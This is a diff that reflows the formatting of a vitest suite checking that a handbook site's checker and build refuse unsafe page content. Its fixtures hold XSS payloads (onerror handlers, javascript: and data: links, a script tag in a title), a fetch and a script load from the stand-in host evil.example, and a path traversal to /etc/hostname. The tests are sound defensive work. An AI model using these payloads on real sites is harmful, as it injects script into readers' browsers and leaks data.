@@ -1,4 +1,12 @@
-import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+	existsSync,
+	mkdirSync,
+	readdirSync,
+	readFileSync,
+	statSync,
+	symlinkSync,
+	writeFileSync,
+} from 'node:fs';
 import { join, relative } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { guardedDocsSchema } from '../../src/site/docs-schema.ts';
@@ -31,17 +39,25 @@ function plant(tree: (pwned: string) => Tree) {
 
 function checkJson(root: string): { code: number | null; diagnostics: Diagnostic[] } {
 	const result = runCli(['check', '--root', root, '--today', TODAY, '--format', 'json']);
-	return { code: result.code, diagnostics: (JSON.parse(result.stdout) as { diagnostics: Diagnostic[] }).diagnostics };
+	return {
+		code: result.code,
+		diagnostics: (JSON.parse(result.stdout) as { diagnostics: Diagnostic[] }).diagnostics,
+	};
 }
 
 /** `file:line rule` for each error, the way an author finds it. */
 function errorsOf(diagnostics: Diagnostic[]): string[] {
-	return diagnostics.filter((d) => d.severity === 'error').map((d) => `${d.file}:${d.line} ${d.rule}`);
+	return diagnostics
+		.filter((d) => d.severity === 'error')
+		.map((d) => `${d.file}:${d.line} ${d.rule}`);
 }
 
 /** Builds without the check in front: only the build's own pipeline and schemas stand in the way. */
 function buildWithoutCheck(root: string) {
-	return buildSite(join(root, 'dist'), { HANDBOOK_ROOT: root, HANDBOOK_TODAY: TODAY }, ['--config', PIPELINE_ONLY]);
+	return buildSite(join(root, 'dist'), { HANDBOOK_ROOT: root, HANDBOOK_TODAY: TODAY }, [
+		'--config',
+		PIPELINE_ONLY,
+	]);
 }
 
 function expectRefusedWithoutSideEffects(root: string, pwned: string, reason: RegExp) {
@@ -70,7 +86,10 @@ describe('code in a page never runs at build time', () => {
 		const { code, diagnostics } = checkJson(root);
 		expect(code).toBe(1);
 		expect(existsSync(pwned)).toBe(false);
-		expect(errorsOf(diagnostics)).toEqual([`${SOP}:${SOP_LINES + 1} mdx/unsafe`, `${SOP}:${SOP_LINES + 3} mdx/unsafe`]);
+		expect(errorsOf(diagnostics)).toEqual([
+			`${SOP}:${SOP_LINES + 1} mdx/unsafe`,
+			`${SOP}:${SOP_LINES + 3} mdx/unsafe`,
+		]);
 		expect(diagnostics.find((d) => d.rule === 'mdx/unsafe')?.message).toMatch(
 			/^runs code: \{\(\(\) => \{ globalThis\.process\.getBuiltinM…\}\. A page may hold only comments in braces\.$/,
 		);
@@ -100,7 +119,11 @@ describe('code in a page never runs at build time', () => {
 		}));
 		const { code, diagnostics } = checkJson(root);
 		expect(code).toBe(1);
-		expect(errorsOf(diagnostics)).toEqual([`${notes}:1 id/format`, `${notes}:5 mdx/unsafe`, `${notes}:7 mdx/unsafe`]);
+		expect(errorsOf(diagnostics)).toEqual([
+			`${notes}:1 id/format`,
+			`${notes}:5 mdx/unsafe`,
+			`${notes}:7 mdx/unsafe`,
+		]);
 		expectRefusedWithoutSideEffects(root, pwned, /content policy[\s\S]*exports code/);
 	}, 120_000);
 
@@ -118,7 +141,11 @@ describe('code in a page never runs at build time', () => {
 			`line 11 starts with --- but is not a fence ("---x: 1"). The site's build would end the frontmatter there and publish the rest as the page, while the check reads it as fields.`,
 		);
 		// The build reads the rest as the page: its own pipeline finds the script there.
-		expectRefusedWithoutSideEffects(root, pwned, /content policy[\s\S]*bill-run\.mdx:13:1 {2}uses a <script>/);
+		expectRefusedWithoutSideEffects(
+			root,
+			pwned,
+			/content policy[\s\S]*bill-run\.mdx:13:1 {2}uses a <script>/,
+		);
 	}, 120_000);
 });
 
@@ -127,11 +154,16 @@ describe('no script reaches a reader', () => {
 		const guide = 'src/content/docs/guide.md';
 		const { root, pwned } = plant(() => ({
 			[SOP]: `${BASE[SOP]!}\n<img src="x" onerror="alert(1)" />\n\n<iframe src="https://example.com/"></iframe>\n\n[x](javascript:alert(1))\n\n[y](  JaVaScRiPt:alert(1))\n\n<a href="&#106;avascript:alert(1)">z</a>\n\n[w][ref]\n\n[ref]: data:text/html,<script>alert(1)</script>\n`,
-			[guide]: '---\ntitle: Guide\n---\n\n<img src=x onerror=alert(1)>\n\n<a href="vbscript:msgbox(1)">v</a>\n',
+			[guide]:
+				'---\ntitle: Guide\n---\n\n<img src=x onerror=alert(1)>\n\n<a href="vbscript:msgbox(1)">v</a>\n',
 		}));
 		const { code, diagnostics } = checkJson(root);
 		expect(code).toBe(1);
-		expect(errorsOf(diagnostics)).toEqual([`${guide}:5 mdx/unsafe`, `${guide}:7 mdx/unsafe`, ...[1, 3, 5, 7, 9, 13].map((n) => `${SOP}:${SOP_LINES + n} mdx/unsafe`)]);
+		expect(errorsOf(diagnostics)).toEqual([
+			`${guide}:5 mdx/unsafe`,
+			`${guide}:7 mdx/unsafe`,
+			...[1, 3, 5, 7, 9, 13].map((n) => `${SOP}:${SOP_LINES + n} mdx/unsafe`),
+		]);
 		expect(diagnostics.filter((d) => d.file === SOP).map((d) => d.message)).toMatchInlineSnapshot(`
 			[
 			  "gives <img> the attribute "onerror", an event handler that would run script in readers' browsers.",
@@ -148,8 +180,12 @@ describe('no script reaches a reader', () => {
 	it('6. refuses markup in names, titles and the organisation, head and banner in pages, and a script address in the config', () => {
 		const { root, pwned } = plant(() => ({
 			'handbook.config.yaml': `${BASE['handbook.config.yaml']!}repository:\n  edit_url: "javascript:fetch('https://evil.example/{path}')"\n`,
-			[SOP]: BASE[SOP]!.replace('title: Acme weekly bill run', 'title: "Bill run</title><script>alert(1)</script>"'),
-			'src/content/people/ben-ode.yaml': 'name: "Ben <img src=x onerror=alert(1)>"\nroles: [csa]\npod: east\n',
+			[SOP]: BASE[SOP]!.replace(
+				'title: Acme weekly bill run',
+				'title: "Bill run</title><script>alert(1)</script>"',
+			),
+			'src/content/people/ben-ode.yaml':
+				'name: "Ben <img src=x onerror=alert(1)>"\nroles: [csa]\npod: east\n',
 			'src/content/docs/index.mdx':
 				"---\ntitle: Home\nhead:\n  - tag: script\n    attrs: { src: 'https://evil.example/x.js' }\nbanner:\n  content: '<img src=x onerror=alert(1)>'\n---\n\nWelcome.\n",
 		}));
@@ -169,17 +205,25 @@ describe('no script reaches a reader', () => {
 			'title is "Bill run</title><script>alert(1)</script>", which holds < or > or a control character. Names and titles are plain text on one line.',
 		);
 		// Without the check, the site's own content schemas refuse the same fields.
-		expectRefusedWithoutSideEffects(root, pwned, /(ben-ode|index) data does not match collection schema/);
+		expectRefusedWithoutSideEffects(
+			root,
+			pwned,
+			/(ben-ode|index) data does not match collection schema/,
+		);
 	}, 120_000);
 });
 
 describe('nothing is published that should not be', () => {
 	it('9. refuses an image path that climbs out of the handbook', () => {
-		const { root, pwned } = plant(() => ({ [SOP]: `${BASE[SOP]!}\n![config](../../../../../../../../../../etc/hostname)\n` }));
+		const { root, pwned } = plant(() => ({
+			[SOP]: `${BASE[SOP]!}\n![config](../../../../../../../../../../etc/hostname)\n`,
+		}));
 		const { code, diagnostics } = checkJson(root);
 		expect(code).toBe(1);
 		expect(errorsOf(diagnostics)).toEqual([`${SOP}:${SOP_LINES + 1} mdx/unsafe`]);
-		expect(diagnostics[0]?.message).toBe('shows the image "../../../../../../../../../../etc/hostn…", which lies outside the handbook.');
+		expect(diagnostics[0]?.message).toBe(
+			'shows the image "../../../../../../../../../../etc/hostn…", which lies outside the handbook.',
+		);
 		expectRefusedWithoutSideEffects(root, pwned, /outside the handbook/);
 		expect(existsSync(join(root, 'dist'))).toBe(false);
 	}, 120_000);
@@ -187,12 +231,15 @@ describe('nothing is published that should not be', () => {
 	it('10. refuses two files for one address instead of letting one silently replace the other', () => {
 		const { root } = plant(() => ({
 			'src/content/docs/reference/glossary.mdx': '---\ntitle: Glossary\n---\n\nWords.\n',
-			'src/content/docs/reference/glossary/index.mdx': '---\ntitle: Other glossary\n---\n\nOther words.\n',
+			'src/content/docs/reference/glossary/index.mdx':
+				'---\ntitle: Other glossary\n---\n\nOther words.\n',
 			'src/content/docs/sops/index.mdx': '---\ntitle: Not the SOP list\n---\n\nHidden.\n',
 		}));
 		const { code, diagnostics } = checkJson(root);
 		expect(code).toBe(1);
-		expect(diagnostics.filter((d) => d.rule === 'id/duplicate').map((d) => `${d.file}: ${d.message}`)).toEqual([
+		expect(
+			diagnostics.filter((d) => d.rule === 'id/duplicate').map((d) => `${d.file}: ${d.message}`),
+		).toEqual([
 			'src/content/docs/reference/glossary/index.mdx: would be published at /reference/glossary/, the same address as src/content/docs/reference/glossary.mdx; the site would show only one of them.',
 			"src/content/docs/sops/index.mdx: would be published at /sops/, the address of one of the site's own pages, which would hide it.",
 		]);
@@ -218,7 +265,9 @@ describe('what the check reads is what the build reads', () => {
 		const { root } = plant(() => ({}));
 		const built = buildSite(join(root, 'dist'), { HANDBOOK_ROOT: root, HANDBOOK_TODAY: TODAY });
 		expect(built.code, built.output).toBe(0);
-		const pages = readdirSync(join(root, 'dist'), { recursive: true, encoding: 'utf8' }).filter((p) => p.endsWith('index.html'));
+		const pages = readdirSync(join(root, 'dist'), { recursive: true, encoding: 'utf8' }).filter(
+			(p) => p.endsWith('index.html'),
+		);
 		expect(pages.length).toBeGreaterThan(10);
 		for (const page of pages) {
 			const html = readFileSync(join(root, 'dist', page), 'utf8');
@@ -245,12 +294,18 @@ describe("the site's own schema for general pages", () => {
 			{ layout: '../../../evil.js' },
 			{ title: '<script>alert(1)</script>' },
 		]) {
-			expect(schema.safeParse({ title: 'Home', ...field }).success, JSON.stringify(field)).toBe(false);
+			expect(schema.safeParse({ title: 'Home', ...field }).success, JSON.stringify(field)).toBe(
+				false,
+			);
 		}
 	});
 
 	it("accepts an honest page and fills in Starlight's defaults", () => {
-		const parsed = schema.safeParse({ title: 'Glossary', description: 'Words we use.', sidebar: { order: 2 } });
+		const parsed = schema.safeParse({
+			title: 'Glossary',
+			description: 'Words we use.',
+			sidebar: { order: 2 },
+		});
 		expect(parsed.success).toBe(true);
 		expect((parsed.data as { template?: string }).template).toBe('doc');
 	});
@@ -259,12 +314,19 @@ describe("the site's own schema for general pages", () => {
 describe('what the policy allows', () => {
 	it("allows a component of the site's own, imported by a path that resolves into src/components/", () => {
 		const root = writeHandbook();
-		const components = relative(join(root, 'src/content/sops/clients/acme'), join(PROJECT, 'src/components'));
+		const components = relative(
+			join(root, 'src/content/sops/clients/acme'),
+			join(PROJECT, 'src/components'),
+		);
 		writeFileSync(
 			join(root, SOP),
 			`${BASE[SOP]!}\nimport StatusBadge from '${components}/StatusBadge.astro';\n\n<StatusBadge state="current" />\n\n<abbr title="Bill pay associate">BPA</abbr>\n`,
 		);
-		const allowed = checkHandbook({ root, today: TODAY, rules: RULES.filter((r) => r.id === 'mdx/unsafe') }).report;
+		const allowed = checkHandbook({
+			root,
+			today: TODAY,
+			rules: RULES.filter((r) => r.id === 'mdx/unsafe'),
+		}).report;
 		expect(allowed.diagnostics).toEqual([]);
 	});
 });
